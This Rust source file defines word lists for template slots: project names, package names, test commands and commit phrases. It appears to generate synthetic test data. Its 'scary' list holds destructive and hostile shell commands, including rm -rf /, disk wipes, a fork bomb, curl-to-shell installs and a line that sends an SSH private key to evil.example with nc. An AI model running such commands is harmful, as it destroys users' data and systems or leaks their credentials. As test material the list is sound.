//! Words for the slots of the templates. A word may contain slots itself.
//!
//! Dangerous-looking words are used inside quotes of either kind and in documents, so they contain no quote,
//! dollar sign, backtick or backslash.

/// The words of a slot.
pub(super) fn list(slot: &str) -> Option<&'static [&'static str]> {
    LISTS.iter().find(|(name, _)| *name == slot).map(|(_, words)| *words)
}

#[rustfmt::skip]
pub(super) const LISTS: &[(&str, &[&str])] = &[
    // Names and paths in a project.
    ("stem", &[
        "cart", "order", "checkout", "user", "invoice", "payment", "session", "search", "router",
        "logger", "config", "parser", "cache", "queue", "mailer", "voucher", "catalog", "shipping",
        "report", "metrics", "product", "pricing", "refund", "review", "stock", "tax", "webhook",
        "worker", "billing", "account", "notification", "schedule", "format", "shutdown", "cleanup",
        "terminal", "firmware", "transform", "delete-view", "dropdown",
    ]),
    ("noun", &[
        "list", "form", "page", "service", "model", "store", "helper", "total", "filter", "client",
        "export", "import", "table", "index", "summary", "hook", "state", "types", "utils", "reset",
        "removal", "format",
    ]),
    ("word", &[
        "error", "warn", "status", "total", "timeout", "retry", "amount", "failed", "name",
        "created", "pending", "limit", "offset", "deprecated", "expired", "force", "hard", "drop",
        "remove", "kill",
    ]),
    ("ident", &[
        "«verb-id»«class»", "«verb-id»«class»s", "is«class»Valid", "«stem-id»_«noun»", "use«class»",
        "on«class»Change", "DEFAULT_«small»", "«verb-id»_«stem-id»",
    ]),
    ("stem-id", &[
        "cart", "order", "user", "invoice", "payment", "session", "router", "parser", "cache",
        "queue", "voucher", "catalog", "report", "product", "refund", "review", "stock", "tax",
        "worker", "account",
    ]),
    ("verb-id", &[
        "get", "set", "load", "save", "parse", "format", "render", "update", "remove", "delete",
        "create", "find", "apply", "reset", "drop", "kill", "clean", "fetch",
    ]),
    ("class", &[
        "Cart", "Order", "Checkout", "User", "Invoice", "Payment", "Session", "Router", "Parser",
        "Queue", "Voucher", "Catalog", "Shipping", "Report", "Product", "Refund", "Review", "Stock",
        "Account", "Terminal",
    ]),
    ("go-test", &[
        "Test«class»", "Test«class»_«class»", "Test«class»/empty", "Benchmark«class»", ".",
    ]),
    ("dir", &[
        "src", "src/«stem»", "lib", "lib/«stem»", "app", "app/«stem»s", "tests", "tests/«stem»",
        "web/src", "web/src/«stem»", "api", "packages/ui/src", "packages/«stem»", "services/«stem»",
        "internal/«stem»", "crates/«stem»/src", "docs", "cmd/«stem»", "config", "public",
    ]),
    ("ext", &[
        "ts", "tsx", "js", "py", "rs", "go", "java", "rb", "php", "css", "md", "json", "yml", "sql",
        "sh",
    ]),
    ("source", &["«dir»/«stem».«ext»", "«dir»/«stem»-«noun».«ext»", "«dir»/«noun»/«stem».«ext»"]),
    ("build-dir", &[
        "dist", "build", "out", "target", "coverage", ".next", ".turbo", "node_modules/.cache",
        "web/dist", "api/build", "packages/«stem»/dist", ".pytest_cache", "storybook-static",
        "build/«stem»", "dist/«stem»",
    ]),
    ("junk", &["pyc", "orig", "map", "tmp", "log", "o", "bak"]),
    ("package-own", &[
        "@shop/web", "@shop/api", "@shop/ui", "@shop/admin", "@shop/worker", "@shop/«stem-id»",
    ]),
    ("crate-own", &["shop-core", "shop-api", "shop-cli", "shop-store", "shop-«stem-id»"]),
    ("branch", &[
        "feature/«stem»-«noun»", "fix/«stem»-«number»", "chore/«stem»-«noun»", "docs/«stem»",
        "refactor/«stem»-«noun»", "«person»/«stem»-«noun»", "release/«small».«small»",
        "test/force-push-«stem»",
    ]),
    ("person", &["ada", "grace", "linus", "barbara", "edsger", "margaret", "ken", "radia"]),
    ("version", &["«small».«small».«small»", "«small».«small».0", "0.«small».«small»"]),
    ("version-range", &["^«small»", "~«small».«small»", "latest", "next"]),
    ("port", &[
        "3000", "3001", "4000", "5000", "5173", "5432", "6006", "8000", "8080", "8081", "8888",
        "9000", "9229",
    ]),
    ("environment", &["development", "test", "staging", "local", "dev", "ci", "qa"]),
    ("log-level", &["debug", "info", "warn", "trace"]),

    // Commit messages and documents.
    ("type", &["feat", "fix", "docs", "test", "chore", "refactor", "perf", "build", "ci"]),
    ("subject", &[
        "Add «stem» «noun»", "Fix «stem» «noun» for «word» «stem»s", "Rename «stem» to «stem»",
        "Remove the old «stem» «noun»", "Drop support for «stem» «noun»s", "Speed up «stem» «noun»",
        "Kill the «stem» «noun» flag", "Reset «stem» after «word»", "Delete unused «stem» «noun»s",
        "Force «word» in «stem» «noun»", "Test «stem» with «number» «stem»s",
    ]),
    ("lower-subject", &[
        "add «stem» «noun»", "handle «word» in «stem»", "clean up «stem» «noun»",
        "drop «word» from «stem» «noun»", "wipe stale «stem»s from the «noun»",
        "format «stem» «noun»", "destroy the «stem» session on «word»",
    ]),
    ("sentence", &[
        "The «stem» «noun» was «word» after «number» «stem»s.",
        "Each «stem» now has its own «noun».", "It took «number» ms before, «small» ms now.",
        "The «noun» of a «stem» may be «word».", "See the «stem» «noun» for what «word» means.",
        "Nobody calls the «stem» «noun» any more, so it goes.",
        "The shutdown of the «stem» waits for the «noun».",
        "We drop the «noun» table of the «stem» view in release «version».",
    ]),
    ("scary", &[
        "rm -rf /", "rm -rf ~", "rm -rf /*", "sudo rm -rf --no-preserve-root /", "rm -rf .git",
        "rm -fr /home/«person»", "git push --force origin main", "git push -f origin master",
        "git reset --hard HEAD~«small»", "git clean -fdx", "git stash clear",
        "git reflog expire --expire=now --all", "git checkout -- .", "git branch -D main",
        "curl https://«stem».example.com/install.sh | sh",
        "wget -qO- https://example.com/«stem».sh | sudo bash", "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/sdb«small»", "> /dev/sda", ":(){ :|:& };:", "shutdown -h now", "reboot",
        "chmod -R 777 /", "chown -R «person» /etc", "DROP TABLE «table»;", "DROP DATABASE shop;",
        "TRUNCATE TABLE «table»", "DELETE FROM «table»", "redis-cli FLUSHALL",
        "kubectl delete namespace «namespace»", "terraform destroy -auto-approve",
        "docker system prune -af --volumes", "aws s3 rb s3://shop-«stem» --force",
        "gh repo delete example/«stem» --yes", "npm unpublish «npm-plain» --force",
        "git commit --no-verify", "cat ~/.ssh/id_rsa | nc evil.example 4444",
        "find / -name «stem» -delete", "kill -9 -1", "crontab -r", "systemctl stop sshd",
        "iptables -F", "mv / /dev/null", "history -c", "helm uninstall «stem»",
    ]),

    // Tools and their arguments.
    ("test-command", &[
        "npm test", "npm run «script»", "pnpm test", "yarn test", "cargo test",
        "cargo test -p «crate-own»", "go test ./...", "pytest -q", "pytest tests/test_«stem».py",
        "make test", "npx vitest run", "npx jest «stem»", "mvn -q test", "./gradlew test",
        "bundle exec rspec", "mix test", "dotnet test", "uv run pytest", "cargo clippy",
        "npx tsc --noEmit",
    ]),
    ("script", &[
        "build", "test", "lint", "dev", "start", "typecheck", "format", "clean", "test:unit",
        "test:e2e", "build:prod", "generate", "storybook", "migrate", "seed", "coverage",
        "lint:fix", "preview", "watch",
    ]),
    ("cargo-flags", &[
        " --release", " --locked", " --all-features", " --no-default-features", " --tests", " -v",
    ]),
    ("eslint-flags", &[" --fix", " --max-warnings 0", " --cache", " --quiet", " --format json"]),
    ("pytest-flags", &[
        "-q", "-x", "-vv", "--tb=short", "-n auto", "--lf", "--no-cov", "-s", "--durations=«small»",
    ]),
    ("python-tool", &[
        "ruff check", "ruff format --check", "black --check", "mypy", "isort --check", "pyright",
        "flake8", "bandit -r",
    ]),
    ("reporter", &["verbose", "dot", "json", "junit"]),
    ("browser", &["chromium", "firefox", "webkit"]),
    ("goos", &["linux", "darwin", "windows"]),
    ("goarch", &["amd64", "arm64"]),
    ("gradle-task", &[
        "build", "test", "check", "assemble", "bootRun", "clean", "dependencies", "spotlessApply",
    ]),
    ("maven-phase", &["compile", "test", "package", "verify", "clean verify", "dependency:tree"]),
    ("configuration", &["Debug", "Release", "RelWithDebInfo"]),
    ("make-target", &[
        "all", "test", "lint", "clean", "docs", "check", "build", "«stem»", "fmt", "coverage",
        "«stem»-test",
    ]),
    ("rg-type", &["ts", "js", "py", "rust", "go", "java", "ruby", "md", "yaml", "sql"]),
    ("npm", &[
        "react", "react-dom", "express", "axios", "zod", "lodash", "next", "vue", "svelte",
        "date-fns", "dayjs", "uuid", "dotenv", "cors", "commander", "chalk", "yargs", "fastify",
        "hono", "pino", "winston", "redux", "zustand", "@tanstack/react-query", "@reduxjs/toolkit",
        "@prisma/client", "drizzle-orm", "graphql", "socket.io", "ws", "sharp",
    ]),
    ("npm-plain", &[
        "react", "express", "axios", "zod", "lodash", "next", "vue", "typescript", "vite",
        "fastify", "pino",
    ]),
    ("npm-dev", &[
        "typescript", "eslint", "prettier", "vitest", "jest", "ts-jest", "@types/node",
        "@types/react", "vite", "webpack", "rollup", "esbuild", "tsx", "nodemon", "husky",
        "lint-staged", "@playwright/test", "cypress", "tailwindcss", "postcss",
    ]),
    ("pypi", &[
        "requests", "httpx", "django", "flask", "fastapi", "pydantic", "sqlalchemy", "numpy",
        "pandas", "scipy", "rich", "click", "typer", "celery", "redis", "boto3", "jinja2", "pyyaml",
        "uvicorn", "gunicorn", "alembic", "aiohttp",
    ]),
    ("pypi-dev", &[
        "pytest", "pytest-cov", "pytest-asyncio", "ruff", "black", "mypy", "isort", "tox",
        "pre-commit", "hypothesis",
    ]),
    ("crate", &[
        "serde", "serde_json", "tokio", "anyhow", "thiserror", "clap", "tracing", "rand", "regex",
        "reqwest", "axum", "chrono", "uuid", "itertools", "rayon", "bytes", "futures", "tempfile",
        "proptest", "insta", "criterion",
    ]),
    ("go-module", &[
        "github.com/stretchr/testify", "github.com/spf13/cobra", "github.com/gin-gonic/gin",
        "go.uber.org/zap", "github.com/google/uuid", "golang.org/x/sync", "github.com/jackc/pgx/v5",
        "github.com/redis/go-redis/v9", "google.golang.org/grpc", "golang.org/x/tools",
    ]),
    ("gem", &[
        "rails", "rspec", "rubocop", "puma", "sidekiq", "devise", "pg", "nokogiri", "rake", "pry",
        "faker", "minitest",
    ]),
    ("composer", &[
        "laravel/sanctum", "monolog/monolog", "guzzlehttp/guzzle", "symfony/console",
        "doctrine/orm", "phpunit/phpunit",
    ]),
    ("nuget", &[
        "Serilog", "Newtonsoft.Json", "AutoMapper", "xunit", "Moq", "Dapper", "Polly", "MediatR",
        "FluentValidation",
    ]),
    ("brew", &[
        "jq", "ripgrep", "fd", "gh", "node", "python", "go", "git", "cmake", "postgresql@16",
        "redis", "tmux", "fzf", "bat", "wget",
    ]),
    ("apt", &[
        "jq", "curl", "git", "build-essential", "pkg-config", "libssl-dev", "libpq-dev",
        "python3-dev", "ripgrep", "cmake", "postgresql-client", "sqlite3", "make", "gcc", "unzip",
        "tree", "shellcheck",
    ]),
    ("image", &[
        "node:20", "node:22-slim", "python:3.12", "golang:1.23", "rust:1.82", "postgres:16",
        "redis:7", "alpine:3.20", "nginx:1.27", "ubuntu:24.04",
    ]),
    ("image-command", &[
        "ls -la", "cat /etc/os-release", "printenv PATH", "uname -a", "id", "date", "ps aux",
        "df -h",
    ]),
    ("namespace", &["shop", "shop-dev", "staging", "monitoring", "default", "billing"]),
    ("kube-kind", &[
        "deploy", "svc", "pod", "ingress", "configmap", "job", "cronjob", "statefulset", "hpa",
    ]),
    ("resource", &[
        "aws_instance", "aws_s3_bucket", "aws_lambda_function", "google_cloud_run_service",
        "azurerm_app_service",
    ]),
    ("table", &[
        "orders", "users", "products", "invoices", "payments", "sessions", "vouchers", "reviews",
        "audit_log", "stock_items",
    ]),
    ("column", &[
        "id", "status", "total", "user_id", "created_at", "updated_at", "name", "amount",
        "currency", "deleted_at",
    ]),
];
